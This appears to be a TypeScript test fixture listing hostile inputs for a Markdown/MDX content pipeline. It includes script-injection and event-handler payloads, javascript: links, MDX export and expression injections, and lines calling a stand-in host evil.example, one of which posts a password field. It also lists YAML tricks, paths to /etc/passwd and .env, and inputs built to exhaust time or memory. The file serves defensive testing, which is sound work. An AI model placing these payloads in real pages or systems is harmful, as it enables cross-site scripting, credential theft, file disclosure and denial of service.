/** An attacker's input, with a name for the failure message of a test. */
export type HostileForm = readonly [name: string, text: string]

/**
 * Texts that run, escape their context, or overload a program that takes them literally.
 * @param code JavaScript that leaves a mark wherever it runs.
 */
export function hostileForms(code: string): readonly HostileForm[] {
  return [
    ...RUNS.map(([name, text]): HostileForm => [name, text.replaceAll('CODE', () => code)]),
    ...BREAKS,
    ...TAKES,
  ]
}

/** HTML, MDX and templates. */
const RUNS: readonly HostileForm[] = [
  ['a script', '<script>CODE</script>'],
  ['a script after a quote', '"><script>CODE</script>'],
  ['a script after a title', '</title><script>CODE</script>'],
  ['a script after a script', '</script><script>CODE</script>'],
  ['a module', '<script type="module">CODE</script>'],
  ['an element with an event', `<img src="x" onerror="CODE" />`],
  ['a known element with an event', '<b onclick="CODE">words</b>'],
  ['an element that opens by itself', '<details open ontoggle="CODE">words</details>'],
  ['a frame with a document', '<iframe srcdoc="<script>CODE</script>"></iframe>'],
  ['a drawing with an event', '<svg onload="CODE"></svg>'],
  ['an instruction', '<?x ><script>CODE</script>?>'],
  ['a section of XML', '<![CDATA[<script>CODE</script>]]>'],
  ['a comment that ends', '<!-- --><script>CODE</script>'],
  ['a style sheet', '<style>@import "https://evil.example/a.css"</style>'],
  ['an inline style', '<b style="background: url(https://evil.example/a)">words</b>'],
  ['a form', '<form action="https://evil.example/"><input name="password" /></form>'],
  ['a base', '<base href="https://evil.example/" />'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'],
  ['a link that runs', '[words](javascript:CODE)'],
  ['a link that runs, in capitals', '[words](JaVaScRiPt:CODE)'],
  ['a link that runs, with a tab in it', '<a href="java\tscript:CODE">words</a>'],
  ['a link with a document', '[words](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a link in braces', '<a href={CODE}>words</a>'],
  ['a link by a definition', '[words][1]\n\n[1]: javascript:CODE'],
  ['an expression', '{CODE}'],
  ['an expression with blanks', '{ CODE }'],
  ['an expression beside a note', '{/* note */ CODE}'],
  ['an expression that a note seems to hold', '{/*/ CODE /*/}'],
  ['an expression in a template', '{`$\u007bCODE}`}'],
  ['an expression in a quote', '> {CODE}'],
  ['an expression in a table', '| a |\n|---|\n| {CODE} |'],
  ['an expression in a heading', '## {CODE}'],
  ['an expression in a link', '[{CODE}](/about)'],
  ['the file of the article', '{ file }'],
  ['a name that stands for nothing', '{ nosuch }'],
  ['a property of a variable', '{clients.constructor}'],
  ['a variable with blanks', '{ clients }'],
  ['an expression by entities', '&#123;CODE&#125;'],
  ['an expression by names of signs', '&lbrace;CODE&rbrace;'],
  ['a spread', '<PullQuote {...CODE}>words</PullQuote>'],
  ['a part with code', '<PullQuote title={CODE}>words</PullQuote>'],
  ['a part with code in a list', '<BarChart title="a" swatch="sky" bars={[["a", 1, CODE]]} />'],
  ['a part with a spread in a list', '<BarChart title="a" swatch="sky" bars={[...[CODE]]} />'],
  ['a property as a part', '<props.components.wrapper />'],
  ['a member as a part', '<Article.Inner />'],
  ['a part with a namespace', '<svg:script>CODE</svg:script>'],
  ['a part that nobody knows', '<Fragment set:html="<script>CODE</script>" />'],
  ['a part that holds a part', '<PullQuote title=<b>{CODE}</b>>words</PullQuote>'],
  ['an import', "import { readFileSync } from 'node:fs'"],
  ['an export', 'export const found = CODE'],
  ['another article', 'export default () => CODE'],
  ['the end of the head', 'words\n---\n\nexport const found = CODE\n'],
  [
    'the end of the head after a separator',
    'words\u2028---\u2028\u2028export const found = CODE\u2028',
  ],
  ['a second head', '---\nexport const found = CODE\n---\n\nwords'],
  ['a second head that opens a fence', '---\n~~~\n---\n\n{CODE}\n\n~~~'],
  ['a head of the other kind', '+++\nfound = 1\n~~~\n+++\n\n{CODE}\n\n~~~'],
  ['a mark of byte order before a head', '\ufeff---\nfound: 1\n---\n\n{CODE}'],
  ['a template', '$\u007bCODE}'],
  ['a template of another language', '<%= CODE %> {{CODE}} #{CODE}'],
]

/** Texts that end their context, leave their folder, or have a meaning in YAML. */
const BREAKS: readonly HostileForm[] = [
  ['a type of YAML', '!!js/function "function () {}"'],
  ['an alias', '&a [*a, *a]'],
  ['a merge', '<<: *words'],
  ['a document of YAML', '...\n---\n- words'],
  ['a prototype', '__proto__'],
  ['a constructor', 'constructor'],
  ['a path out of the folder', '../../package'],
  ['a path with backslashes', '..\\..\\package'],
  ['a path from the root', '/etc/passwd'],
  ['a hidden file', '.env'],
  ['a device', 'con'],
  ['a NUL', 'words\0.yaml'],
  ['control characters', 'a\u0001b\u000bc\u001fd\u007fe\u0085f'],
  ['separators', 'a\u2028b\u2029c'],
  ['half a character', 'a\ud800b'],
  ['what is no character', 'a\ufffeb\uffffc'],
  ['the other direction', 'a\u202eb'],
]

/** Texts that may take time or memory by the square of their length. */
const TAKES: readonly HostileForm[] = [
  ['entities', '&amp;'.repeat(340_000)],
  ['numbered entities', '&#65;'.repeat(40_000)],
  ['braces', '{'.repeat(100_000)],
  ['names in braces', '{clients} '.repeat(20_000)],
  ['brackets', '['.repeat(190_000)],
  ['a wide table', `${'|a'.repeat(1500)}|\n${'|-'.repeat(1500)}|\n`],
  ['a long table', `${'|a'.repeat(15)}|\n${'|-'.repeat(15)}|\n${'|\n'.repeat(90_000)}`],
  ['quotes within quotes', `${'>'.repeat(5000)}words`],
  [
    'lists within lists',
    Array.from({ length: 400 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n'),
  ],
  ['tags within tags', `${'<b>'.repeat(20_000)}words${'</b>'.repeat(20_000)}`],
  ['tags side by side', '<b>a</b> '.repeat(20_000)],
  ['emphasis', '*a _b '.repeat(30_000)],
  ['ticks', Array.from({ length: 600 }, (_, i) => '`'.repeat(i + 1)).join(' ')],
  ['one long word', 'a'.repeat(1_900_000)],
  ['blanks', ' \n'.repeat(90_000)],
]
